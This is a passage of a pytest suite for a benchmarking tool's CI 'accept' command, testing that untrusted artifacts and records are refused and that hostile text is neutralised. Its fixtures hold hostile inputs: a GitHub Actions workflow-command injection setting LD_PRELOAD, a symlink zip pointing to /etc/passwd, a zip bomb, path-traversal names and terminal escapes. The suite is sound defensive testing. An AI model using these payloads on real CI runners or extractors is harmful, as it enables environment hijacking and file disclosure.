    """A record, and the comparison that it follows from; both with the very bytes that came."""
    candidate, evidence, record = judged()
    send(tmp_path / "in" / CONFIRMED, evidence, record)
    done = confirm(tmp_path, candidate)
    assert (done.exit_code, done.refused) == (0, ())
    assert sorted(done.accepted) == [f"changes/{record.id}.json", f"comparisons/{evidence.id}.json"]
    assert (tmp_path / "out" / "changes" / f"{record.id}.json").read_bytes() == encoded(record)


CONTRARY = "says something else than its evidence"


@pytest.mark.parametrize(
    ("lie", "asked", "reason"),
    [
        ({"ratio": 1.5, "high": 1.6}, {}, CONTRARY),
        ({"status": "closed"}, {}, CONTRARY),
        ({"note": "Blame granian."}, {}, CONTRARY),
        ({"id": "another"}, {}, "'another', which was no candidate"),
        ({}, {"base": judged()[0].head}, "evidence with another lock as base"),
    ],
)
def test_a_record_says_what_follows_from_its_evidence(
    tmp_path: Path, lie: dict[str, Any], asked: dict[str, Any], reason: str
) -> None:
    """Where the candidates are known, a machine measures their two stacks, and nothing else."""
    candidate, evidence, record = judged()
    send(tmp_path / "in" / CONFIRMED, evidence, record.model_copy(update=lie))
    done = confirm(tmp_path, candidate.model_copy(update=asked))
    assert done.exit_code == 3
    assert reason in done.refused[0].reason


@pytest.mark.parametrize(
    ("lie", "reason"),
    [
        ({}, ""),
        ({"change": "another"}, "change of an attribution"),
        ({"id": "another", "change": "another"}, "'another', which was not judged"),
        ({"head": judged()[2].base}, "head of an attribution"),
        ({"duetbench": "6.6"}, "version"),
        ({"case": "../x"}, "the case '../x'"),
        ({"notes": ("\x1b[2J",)}, "a control character"),
    ],
)
def test_an_attribution_is_of_a_change_that_came_with_it(
    tmp_path: Path, lie: dict[str, Any], reason: str
) -> None:
    candidate, evidence, record = judged()
    send(tmp_path / "in" / CONFIRMED, evidence, record)
    given = {name: getattr(record, name) for name in ("id", "base", "head", "packages")}
    given |= {"change": record.id, "duetbench": evidence.duetbench}
    found = attribution(**{**given, **lie})
    folder = tmp_path / "in" / CONFIRMED / "attributions"
    folder.mkdir()
    (folder / f"{found.id}.json").write_bytes(encoded(found))
    done = confirm(tmp_path, candidate)
    if reason:
        assert reason in done.refused[0].reason
    else:
        assert f"attributions/{record.id}.json" in done.accepted


def test_no_artifact_means_that_nothing_was_confirmed(tmp_path: Path) -> None:
    done = confirm(tmp_path)
    assert (done.exit_code, done.accepted) == (0, ())
    found = acceptance.night(night(), tmp_path / "in", tmp_path / "out", TRUSTED, NOW)
    assert (found.exit_code, len(found.missing)) == (3, 3)


def moved(**changes: str) -> ChangeRecord:
    return change(series=change().series.model_copy(update=changes))


RECORDS: Final[dict[str, tuple[str, ChangeRecord, str]]] = {
    "without evidence": ("changes", change(), "without its evidence '20261120T090000Z-aaaaaaaa-bb"),
    "of another machine": (
        "changes", moved(machine=MACHINES[1].id), f"machine: expected {MACHINES[0].id}"),
    "of a metric that is none": ("changes", moved(metric="<b>"), "the metric '<b>'"),
    "of a case with a path": ("changes", moved(case="a/../../b"), "the case 'a/../../b'"),
    "beyond reason": ("changes", change(ratio=1e9, low=1e9, high=1e9), "ratios between 1e+09"),
    "from the future": ("changes", change(when="2099-01-01T00:00:00Z"), "time of the change"),
    "with a hidden text": ("changes", change(note=HIDDEN), "a character that turns the text"),
    "in another folder": ("runs", change(), "which is no result of a confirmation"),
}  # fmt: skip


@pytest.mark.parametrize("attack", RECORDS)
def test_a_record_that_does_not_belong_is_refused(tmp_path: Path, attack: str) -> None:
    """A change becomes an issue and a page: it is checked like a run."""
    below, value, reason = RECORDS[attack]
    place = tmp_path / "in" / CONFIRMED / below
    place.mkdir(parents=True)
    (place / f"{value.id}.json").write_bytes(encoded(value))
    done = confirm(tmp_path)
    assert done.accepted == ()
    assert reason in done.refused[0].reason
    assert not (tmp_path / "out").exists()


def test_evidence_from_which_nothing_can_follow_costs_itself_alone(tmp_path: Path) -> None:
    """An interval that does not hold its ratio: what a check stumbles over is refused as well."""
    candidate, evidence, record = judged()
    (case,) = evidence.cases
    (judgement,) = case.judgements
    bad = case.model_copy(update={"judgements": (judgement.model_copy(update={"low": 1e4}),)})
    send(tmp_path / "in" / "a", evidence.model_copy(update={"cases": (bad,)}), record)
    send(tmp_path / "in" / "b", evidence, record)
    found = confirm(tmp_path, candidate)
    assert [one.artifact for one in found.refused] == ["'a'"]
    assert "does not hold" in found.refused[0].reason
    assert len(found.accepted) == 2


# The verb.


def honest(number: int) -> Run:
    """A run that this very checkout would accept."""
    root = paths.project_root()
    declared = Project(root).settings.interpreters
    records = tuple(
        record.model_copy(update={"version": declared[record.name].version})
        for record in shard_run(number).interpreters
    )
    return shard_run(
        number, oha=settings.load(root).oha.version,
        stacks=(Project(root).lock("current").record(),), interpreters=records,
    )  # fmt: skip


def test_the_checkouts_own_locks_are_what_runs_are_held_against() -> None:
    """Digests and pins of all stacks, for packages of any platform."""
    found = facts.of_checkout(paths.project_root())
    assert set(found.locks) == set(Project.here().stacks)
    for name in Project.here().stacks:
        read = Project.here().lock(name)
        assert found.locks[name].digest == read.digest
        assert set(read.packages.items()) <= found.locks[name].pins
    found.require_stacks([Project.here().lock(name).record() for name in Project.here().stacks])


def test_the_verb_tells_what_it_refused_and_nothing_acts_on_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Hostile names and texts stay in their line; no file of the runner's is written to."""
    monkeypatch.setattr("duetbench.cli.accept.datetime", _Clock)
    files = {}
    for name in ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STATE"):
        files[name] = tmp_path / name
        files[name].touch()
        monkeypatch.setenv(name, str(files[name]))
    summary = tmp_path / "summary"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    source = tmp_path / "in"
    put(source, "shard-1", honest(1))
    put(source, "shard-2", honest(2).model_copy(update={"notes": ("x\nLD_PRELOAD=/tmp/x.so",)}))
    evil = source / "x`\n::set-env name=LD_PRELOAD::##[add-path] <img src=x>"
    evil.mkdir()
    (source / "shard-3").mkdir()
    (source / "shard-3" / "GITHUB_ENV").write_text("LD_PRELOAD=/tmp/x.so\n")
    plan = tmp_path / "night.json"
    store_file(plan, night())
    said = CliRunner().invoke(
        app,
        ["ci", "accept", "--plan", str(plan), "--from", str(source), "--to", str(tmp_path / "out")],
    )
    assert said.exit_code == 1, said.output
    lines = said.output.splitlines()
    assert len(lines) == 6
    assert all(line.split(":")[0] in {"accepted", "refused", "missing"} for line in lines)
    assert "##[" not in said.output
    assert {path.read_text() for path in files.values()} == {""}
    shown = summary.read_text()
    assert shown.startswith("**1 accepted, 3 refused**")
    assert all(line.startswith(("- refused: `", "- missing: ")) for line in shown.split("\n")[2:-2])
    outside = re.sub(r"`[^`\n]*`", "", shown)
    assert not {"<img", "::", "LD_PRELOAD"} & set(re.split(r"[\s=]", outside))
    assert "<" not in outside


class _Clock:
    @staticmethod
    def now(_: object) -> Any:
        return NOW


@pytest.mark.parametrize(
    ("words", "sentence"),
    [
        ("", "expected --from FOLDER with one of"),
        ("--comparison --confirmed", "expected --from FOLDER with one of"),
        ("--comparison --base main", "expected a commit as 40 hex digits, found 'main'"),
        ("--plan night.json --shard 4", "--shard"),
        ("--confirmed --shard 4", "--shard"),
    ],
)
def test_the_verb_wants_one_kind_of_artifact_and_a_shard_of_the_night(
    words: str, sentence: str, tmp_path: Path
) -> None:
    store_file(tmp_path / "night.json", night())
    with contextlib.chdir(tmp_path):
        where = ["ci", "accept", "--from", "in", "--to", "out"]
        problem = CliRunner().invoke(app, [*where, *words.split()]).exception
    assert isinstance(problem, UsageError)
    assert sentence in str(problem)


def test_foreign_text_is_shown_in_one_line_of_ascii() -> None:
    """Line ends, colours, commands of the runner and backticks lose their effect."""
    told = text.shown("a\n::warning::b\x1b[31m`c` ##[group] é")
    assert told == "'a\\n::warning::b\\x1b[31m'c' # #[group] \\xe9'"
    assert len(text.shown("x" * 10_000)) < 130


def test_json_of_our_own_results_is_plain(reference_results: Path) -> None:
    """The checks would refuse none of what is recorded in this repository."""
    for path in store.runs(reference_results):
        text.require_plain(json.loads(path.read_bytes()))


# Fetching them.


def archive(*files: tuple[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files:
            made.writestr(name, data)
    return packed.getvalue()


def linked() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as made:
        link = zipfile.ZipInfo("run.json")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return packed.getvalue()


RUN: Final = (f"runs/{MACHINES[0].id}/2026/{shard_run(1).id}.json", store.encode(shard_run(1)))
WHOLE: Final = archive(RUN)
BOMB: Final = archive(("run.json", bytes(200_000_000)))
ARCHIVES: Final[dict[str, tuple[bytes, dict[str, Any], str]]] = {
    "cut short": (WHOLE[:-9], {}, "expected a zip archive, found"),
    "no archive": (b"<html>", {}, "expected a zip archive, found"),
    "nothing": (b"", {}, "expected a zip archive, found"),
    "other bytes within": (
        WHOLE.replace(WHOLE[900:940], bytes(40)), {}, "expected a zip archive, found"),
    "another digest": (WHOLE, {"digest": f"sha256:{'0' * 64}"}, "its download is damaged"),
    "a bomb": (BOMB, {}, "expected at most 8,000,000 bytes per file"),
    "many large files": (
        archive(*((f"{n}.json", bytes(7_000_000)) for n in range(5))), {}, "32,000,000 in all",),
    "many files": (archive(*((f"{n}.json", b"") for n in range(65))), {}, "more than 64 files"),
    "up and out": (archive(("../../x.json", b"{}")), {}, "the name '../../x.json'"),
    "from the root": (archive(("/etc/x.json", b"{}")), {}, "the name '/etc/x.json'"),
    "huge": (WHOLE, {"size_in_bytes": 10**10}, "16,000,000 bytes"),
    "larger than it says": (
        WHOLE + bytes(16_000_000), {"size_in_bytes": 9}, "16,000,000 bytes",
    ),
    "expired": (WHOLE, {"expired": True}, "it has expired"),
    "gone": (WHOLE, {"gone": True}, "GitHub answered 404"),
    "a path for a name": (WHOLE, {"name": "shard-1/../../x"}, "a name that none of ours has"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ARCHIVES)
def test_an_artifact_that_cannot_be_fetched_costs_the_others_nothing(
    attack: str, tmp_path: Path, step: steps.Step
) -> None:
    """Damaged, far too large, or somewhere else: it is named, and the others are stored."""
    data, told, reason = ARCHIVES[attack]
    step.github.leave(7, data=data, **{"name": "shard-1", **told})
    step.github.leave(7, "shard-2", archive((RUN[0], store.encode(shard_run(2)))))
    step.github.leave(7, "night", b"not asked for")
    step.github.leave(8, "shard-3", b"of another run")
    tracemalloc.start()
    try:
        done = step("accept", "--fetch", "shard-*", "--to", tmp_path / "incoming")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert done.code == 0
    assert reason in done.out
    assert "fetched: shard-2\n" in done.out
    assert peak < 150_000_000
    assert [path.name for path in (tmp_path / "incoming").iterdir()] == ["shard-2"]
    found = accepted(tmp_path / "incoming")
    assert (found.exit_code, len(found.accepted), len(found.missing)) == (1, 1, 2)


def test_artifacts_are_fetched_as_they_were_sent(tmp_path: Path, step: steps.Step) -> None:
    """From another host, which does not get the token; of two of one name the newer one."""
    step.github.leave(7, "shard-1", b"an earlier attempt")
    step.github.leave(7, "shard-1", WHOLE)
    step.github.leave(7, "shard-2", linked())
    done = step("accept", "--fetch", "shard-*", "--to", tmp_path / "incoming")
    assert done.code == 0
    assert "fetched: shard-1\nfetched: shard-2\n" in done.out
    assert (tmp_path / "incoming" / "shard-1" / RUN[0]).read_bytes() == RUN[1]
    link = tmp_path / "incoming" / "shard-2" / "run.json"
    assert (link.is_symlink(), link.read_text()) == (False, "/etc/passwd")
    assert step.github.told_elsewhere == [None, None]
    step.github.fail(path="artifacts$", status=403, times=-1)
    assert step("accept", "--fetch", "shard-*", "--to", tmp_path / "again").code == 4
    assert step("accept", "--to", tmp_path / "again", "--confirmed").code == 2


def test_a_shard_is_stored_whatever_becomes_of_the_others(tmp_path: Path, step: steps.Step) -> None:
    """Only its own artifact is fetched, and only it can be missing."""
    for number in (1, 10, 2):
        step.github.leave(7, f"shard-{number}", WHOLE)
    assert step("accept", "--fetch", "shard-1", "--to", tmp_path / "fetched").code == 0
    assert [path.name for path in (tmp_path / "fetched").iterdir()] == ["shard-1"]

    plan = night((None, MACHINES[1].id, None))

    def of(machine: Machine, number: int) -> Acceptance:
        place = tmp_path / machine.id
        put(place, "shard-1", shard_run(1, plan, machine=machine))
        return acceptance.night(plan, place, tmp_path / "out", TRUSTED, NOW, number)

    alone = of(MACHINES[0], 1)
    assert (alone.exit_code, len(alone.accepted), alone.missing) == (0, 1, ())
    assert [line.partition(" (")[0] for line in of(MACHINES[0], 2).missing] == ["shard 2"]
    assert "which has a shard of its own" in of(MACHINES[1], 1).refused[0].reason
